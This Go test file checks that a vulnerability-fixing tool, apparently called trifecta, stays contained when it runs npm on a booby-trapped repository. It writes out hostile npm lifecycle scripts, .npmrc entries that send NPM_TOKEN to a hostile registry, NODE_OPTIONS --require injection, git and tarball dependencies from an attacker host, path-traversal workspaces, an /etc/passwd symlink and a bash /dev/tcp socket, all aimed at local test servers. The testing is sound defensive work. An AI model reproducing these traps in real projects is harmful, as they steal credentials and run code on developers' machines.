package fix_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/trifecta-scanner/trifecta/advisory"
	"github.com/trifecta-scanner/trifecta/fix"
	"github.com/trifecta-scanner/trifecta/fix/fixtest"
	"github.com/trifecta-scanner/trifecta/internal/web"
	"github.com/trifecta-scanner/trifecta/inventory"
)

// A hostile repository has traps in every place that a package manager might step into. Each of them would make the
// file that canary names, or send a request to the trap's server. None may.
//
// The programs are the real ones, where they are installed; the registry is a server of the test, so that nothing leaves
// the machine.

// trap is a registry of the test and a server that nobody may talk to.
type trap struct {
	canary   string // a file that must not come to be
	registry *httptest.Server
	hostile  *httptest.Server

	mu    sync.Mutex
	fired []string
	asked []string
}

func newTrap(t *testing.T) *trap {
	t.Helper()
	tr := &trap{canary: filepath.Join(t.TempDir(), "canary")}
	tr.registry = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		tr.mu.Lock()
		defer tr.mu.Unlock()
		tr.asked = append(tr.asked, r.URL.Path)
		for name, value := range r.Header {
			if strings.Contains(strings.Join(value, ""), "SECRET") {
				tr.fired = append(tr.fired, "the registry was sent "+name)
			}
		}
		doc := packument(tr.registry.URL, tr.canary, strings.TrimPrefix(r.URL.Path, "/"))
		if doc == nil {
			http.NotFound(w, r)
			return
		}
		_ = json.NewEncoder(w).Encode(doc) // a test's own server
	}))
	t.Cleanup(tr.registry.Close)
	tr.hostile = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		tr.mu.Lock()
		defer tr.mu.Unlock()
		tr.fired = append(tr.fired, "the hostile server was asked for "+r.URL.Path)
	}))
	t.Cleanup(tr.hostile.Close)
	return tr
}

// packument is what the registry says: words 1.0.0 is affected, 1.0.1 asks for a package that the lock file lacks, so
// that npm has to run, and installing anything would run a program.
func packument(registry, canary, name string) map[string]any {
	release := func(version string, needs map[string]string) map[string]any {
		return map[string]any{
			"name": name, "version": version, "dependencies": needs, "hasInstallScript": true,
			"scripts": map[string]string{"preinstall": "touch " + canary, "install": "touch " + canary, "postinstall": "touch " + canary, "prepare": "touch " + canary},
			"dist": map[string]string{
				"tarball":   fmt.Sprintf("%s/%s/-/%s-%s.tgz", registry, name, name, version),
				"integrity": "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
			},
		}
	}
	times := map[string]string{"1.0.0": "2020-01-01T00:00:00Z", "1.0.1": "2020-02-01T00:00:00Z"}
	switch name {
	case "words":
		return map[string]any{"name": name, "dist-tags": map[string]string{"latest": "1.0.1"}, "time": times, "versions": map[string]any{
			"1.0.0": release("1.0.0", nil), "1.0.1": release("1.0.1", map[string]string{"letters": "^1.0.0"}),
		}}
	case "letters":
		return map[string]any{"name": name, "dist-tags": map[string]string{"latest": "1.0.1"}, "time": times, "versions": map[string]any{
			"1.0.0": release("1.0.0", nil), "1.0.1": release("1.0.1", nil),
		}}
	}
	return nil
}

// env returns an environment with real, contained programs.
func (tr *trap) env(t *testing.T, dir string) *fix.Env {
	t.Helper()
	t.Setenv("NPM_TOKEN", "SECRET")
	t.Setenv("NODE_AUTH_TOKEN", "SECRET")
	t.Setenv("NODE_OPTIONS", "--require="+filepath.Join(dir, "evil.js"))
	t.Setenv("npm_config_script_shell", filepath.Join(dir, "evil.sh"))
	return &fix.Env{
		Client: web.New(web.Options{Tries: 1}), Now: time.Date(2026, 11, 24, 0, 0, 0, 0, time.UTC),
		Runner: &fix.Contained{Getenv: os.Getenv, Outside: dir, Timeout: time.Minute},
		Getenv: func(name string) string {
			if name == "NPM_CONFIG_REGISTRY" {
				return tr.registry.URL
			}
			return ""
		},
	}
}

func (tr *trap) check(t *testing.T) {
	t.Helper()
	if _, err := os.Lstat(tr.canary); err == nil {
		t.Error("a program of the repository or of a package ran")
	}
	tr.mu.Lock()
	defer tr.mu.Unlock()
	for _, what := range tr.fired {
		t.Error(what)
	}
}

// words is an advisory about one package of the trap's registry.
type words struct{}

func (words) Match(_ context.Context, queries []advisory.Query) ([][]*advisory.Record, []inventory.Notice, error) {
	record := &advisory.Record{ID: "GHSA-aaaa-bbbb-cccc", Modified: "2026-01-01T00:00:00Z", Affected: []advisory.Affected{{
		Package: advisory.Package{Ecosystem: "npm", Name: "words"},
		Ranges:  []advisory.Range{{Type: "SEMVER", Events: []advisory.Event{{Introduced: "0"}, {Fixed: "1.0.1"}}}},
	}}}
	found := make([][]*advisory.Record, len(queries))
	for i, q := range queries {
		if record.Affects(q) {
			found[i] = append(found[i], record)
		}
	}
	return found, nil, nil
}

func (words) Info() advisory.Info { return advisory.Info{} }
func (words) Close() error        { return nil }

func TestCanariesNPM(t *testing.T) {
	if _, err := exec.LookPath("npm"); err != nil {
		t.Skip("needs npm, which is what must not be led astray")
	}
	const lock = `{
  "name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
  "packages": {
    "": {"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0"%s}},
    "node_modules/words": {"version": "1.0.0", "resolved": "REGISTRY/words/-/words-1.0.0.tgz", "integrity": "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=="}%s
  }
}
`
	tests := []struct {
		name    string
		files   map[string]string
		inRoot  string // further members of the root's dependencies
		entries string // further entries of the lock file
		written bool   // the change can be made all the same
	}{
		{name: "scripts of the project", written: true, files: map[string]string{
			"package.json": `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0"}, "scripts": {"preinstall": "touch CANARY", "install": "touch CANARY", "postinstall": "touch CANARY", "prepare": "touch CANARY", "dependencies": "touch CANARY"}}`,
		}},
		{name: "a registry and a token in .npmrc", written: true, files: map[string]string{
			".npmrc": "registry=HOSTILE/\n//HOSTILEHOST/:_authToken=${NPM_TOKEN}\n//REGISTRYHOST/:_authToken=${NPM_TOKEN}\nproxy=HOSTILE\nhttps-proxy=HOSTILE\ngit=CANARYPROGRAM\nnode-options=--require=./evil.js\nscript-shell=./evil.sh\nignore-scripts=false\nonload-script=./evil.js\n",
		}},
		{name: "a script of pnpm and the release of yarn", written: true, files: map[string]string{
			".pnpmfile.cjs": "require('fs').writeFileSync('CANARY', '')\n", ".yarnrc.yml": "yarnPath: ./evil.js\n", ".yarnrc": "yarn-path ./evil.js\n",
		}},
		{name: "a package from a repository", files: map[string]string{
			"package.json": `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0", "evil": "git+HOSTILE/evil.git"}}`,
		}, inRoot: `, "evil": "git+HOSTILE/evil.git"`, entries: `, "node_modules/evil": {"version": "1.0.0", "resolved": "git+HOSTILE/evil.git#0123456789012345678901234567890123456789", "hasInstallScript": true}`},
		{name: "a git that is a program of the repository", files: map[string]string{
			"package.json": `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0", "evil": "git+ssh://git@HOSTILEHOST/evil.git"}}`, "bin/git": "#!/bin/sh\ntouch CANARY\n",
		}},
		{name: "a package by a foreign address", files: map[string]string{
			"package.json": `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0", "evil": "HOSTILE/evil.tgz"}}`,
		}},
		{name: "a workspace that leads out", files: map[string]string{
			"package.json":            `{"name": "shop", "version": "1.0.0", "workspaces": ["../../*", "/etc", "packages/*"], "dependencies": {"words": "^1.0.0"}}`,
			"packages/a/package.json": `{"name": "a", "version": "1.0.0", "scripts": {"prepare": "touch CANARY"}}`,
		}},
		{name: "a folder that leads out", files: map[string]string{
			"package.json": `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0", "out": "file:../../../etc"}}`,
		}},
		{name: "packages from elsewhere in a lock file of version 1", files: map[string]string{
			"package.json": `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0", "evil": "HOSTILE/evil.tgz", "worse": "git+HOSTILE/worse.git"}}`,
			"package-lock.json": `{"name": "shop", "version": "1.0.0", "lockfileVersion": 1, "requires": true, "dependencies": {
  "evil": {"version": "HOSTILE/evil.tgz", "integrity": "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=="},
  "words": {"version": "1.0.0", "resolved": "REGISTRY/words/-/words-1.0.0.tgz", "integrity": "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=="},
  "worse": {"version": "git+HOSTILE/worse.git#0123456789012345678901234567890123456789", "from": "git+HOSTILE/worse.git"}
}}`,
		}},
		{name: "an archive of somebody else in a lock file of version 1", written: true, files: map[string]string{
			"package.json": `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0", "letters": "1.0.0"}}`,
			"package-lock.json": `{"name": "shop", "version": "1.0.0", "lockfileVersion": 1, "requires": true, "dependencies": {
  "letters": {"version": "1.0.0", "resolved": "HOSTILE/letters-1.0.0.tgz", "integrity": "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==", "bundled": true, "dependencies": {"../../../evil": {"version": "1.0.0"}}},
  "words": {"version": "1.0.0", "resolved": "REGISTRY/words/-/words-1.0.0.tgz", "integrity": "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=="}
}}`,
		}},
		{name: "installed packages of the repository", written: true, files: map[string]string{
			"node_modules/words/package.json": `{"name": "words", "version": "1.0.0", "scripts": {"install": "touch CANARY"}}`, "node_modules/.bin/node": "#!/bin/sh\ntouch CANARY\n",
		}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			dir := t.TempDir()
			tr := newTrap(t)
			names := strings.NewReplacer("CANARYPROGRAM", filepath.Join(dir, "evil.sh"), "CANARY", tr.canary, "HOSTILEHOST", strings.TrimPrefix(tr.hostile.URL, "http://"),
				"HOSTILE", tr.hostile.URL, "REGISTRYHOST", strings.TrimPrefix(tr.registry.URL, "http://"), "REGISTRY", tr.registry.URL)
			files := map[string]string{
				"package.json":      `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0"}}`,
				"package-lock.json": fmt.Sprintf(lock, test.inRoot, test.entries),
				"evil.js":           "require('fs').writeFileSync('CANARY', '')\n", "evil.sh": "#!/bin/sh\ntouch CANARY\n", "binding.gyp": "{}\n",
			}
			for name, text := range test.files {
				files[name] = text
			}
			for name, text := range files {
				path := filepath.Join(dir, filepath.FromSlash(name))
				if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(names.Replace(text)), 0o755)); err != nil {
					t.Fatal(err)
				}
			}
			tree, err := inventory.OpenTree(t.Context(), dir, inventory.Limits{})
			if err != nil {
				t.Fatal(err)
			}
			defer func() { _ = tree.Close() }() // it was only read
			judge := fixtest.Judge(words{})
			before, err := judge(t.Context(), tree)
			if err != nil {
				t.Fatal(err)
			}
			plan, err := fix.MakePlan(t.Context(), tree, before, fix.Options{Env: tr.env(t, dir), Advisories: words{}})
			if err != nil {
				t.Fatal(err)
			}
			if len(plan.Changes) != 1 {
				t.Fatalf("%d changes, %+v", len(plan.Changes), plan.Unfixed)
			}
			ws := fix.NewWorkspace(tree)
			_, err = plan.Apply(t.Context(), ws, &plan.Changes[0], before, judge)
			var dropped *fix.DroppedError
			if err != nil && !errors.As(err, &dropped) {
				t.Fatal(err)
			}
			tr.check(t)
			if test.written && err != nil {
				t.Errorf("the change was not made: %v", err)
			}
			if !test.written && err == nil {
				t.Log("the change was made all the same")
			}
			for _, name := range ws.Changed() {
				if name != "package.json" && name != "package-lock.json" {
					t.Errorf("%s changed", name)
				}
				data, err := ws.ReadFile(name)
				if err != nil {
					t.Fatal(err)
				}
				if strings.Contains(string(data), "SECRET") {
					t.Errorf("a token stands in %s", name)
				}
			}
			if entries, err := os.ReadDir(dir); err != nil || len(entries) > len(files) {
				t.Errorf("the repository has %d entries more, %v", len(entries)-len(files), err)
			}
		})
	}
}

// TestContained looks at what a program can see and do, apart from any package manager.
func TestContained(t *testing.T) {
	if _, err := exec.LookPath("sh"); err != nil {
		t.Skip(err)
	}
	t.Setenv("SECRET_TOKEN", "canary")
	tree := fixtest.Tree(t, map[string]string{"a.lock": "old\n", "secret.txt": "canary\n", "sub/b.lock": "b\n"})
	run := func(t *testing.T, script string, cmd fix.Command) (*fix.Workspace, string, error) {
		ws := fix.NewWorkspace(tree)
		cmd.Program, cmd.Args = "sh", []string{"-c", script}
		out, err := (&fix.Contained{Getenv: os.Getenv}).Run(t.Context(), ws, cmd)
		return ws, string(out), err
	}
	lock := fix.Command{Files: []string{"a.lock"}}
	t.Run("files", func(t *testing.T) {
		ws, out, err := run(t, `for f in * */*; do echo "$f"; done; echo new >a.lock; echo more >other.lock`, lock)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(out, "secret") || strings.Contains(out, "sub") {
			t.Errorf("it saw %s", out)
		}
		if got := strings.Join(ws.Changed(), " "); got != "a.lock" {
			t.Errorf("changed: %s", got)
		}
	})
	t.Run("environment", func(t *testing.T) {
		_, out, err := run(t, `set; echo "home:$HOME"`, lock)
		if err != nil {
			t.Fatal(err)
		}
		if home, _ := os.UserHomeDir(); strings.Contains(out, "SECRET_TOKEN") || strings.Contains(out, "home:"+home+"\n") {
			t.Errorf("it saw %s", out)
		}
	})
	t.Run("no other program by name", func(t *testing.T) {
		if _, _, err := run(t, `git --version`, lock); err == nil {
			t.Error("git was found")
		}
	})
	t.Run("a link does not come back", func(t *testing.T) {
		ln, err := exec.LookPath("ln")
		if err != nil {
			t.Skip(err)
		}
		ws, _, err := run(t, `rm() { :; }; `+ln+` -sf /etc/passwd a.lock`, lock)
		if err == nil || len(ws.Changed()) > 0 {
			t.Errorf("it came back: %v, %v", ws.Changed(), err)
		}
	})
	t.Run("what fails changes nothing", func(t *testing.T) {
		ws, _, err := run(t, `echo new >a.lock; echo trouble >&2; exit 3`, lock)
		var failed *fix.ToolError
		if !errors.As(err, &failed) || !strings.Contains(failed.Error(), "trouble") || len(ws.Changed()) > 0 {
			t.Errorf("%v, %v", err, ws.Changed())
		}
	})
	t.Run("no network unless it is asked for", func(t *testing.T) {
		bash, err := exec.LookPath("bash")
		if err != nil {
			t.Skip(err)
		}
		listener, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0")
		if err != nil {
			t.Skip(err)
		}
		defer func() { _ = listener.Close() }() // nothing is sent
		host, port, err := net.SplitHostPort(listener.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		script := bash + " -c 'exec 3<>/dev/tcp/" + host + "/" + port + "'"
		if _, _, err := run(t, script, lock); err == nil {
			t.Skip("this kernel does not confine sockets")
		}
		open := lock
		open.Network = true
		if _, _, err := run(t, script, open); err != nil {
			t.Errorf("with Network: %v", err)
		}
	})
	t.Run("a program of the repository is not run", func(t *testing.T) {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, "npm"), []byte("#!/bin/sh\necho canary\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		c := &fix.Contained{Outside: dir, Getenv: func(name string) string {
			if name == "PATH" {
				return dir + string(filepath.ListSeparator) + "." + string(filepath.ListSeparator) + "bin"
			}
			return ""
		}}
		out, err := c.Run(t.Context(), fix.NewWorkspace(tree), fix.Command{Program: "npm"})
		var missing *fix.ToolError
		if !errors.As(err, &missing) || !missing.Missing {
			t.Errorf("%q, %v", out, err)
		}
	})
}
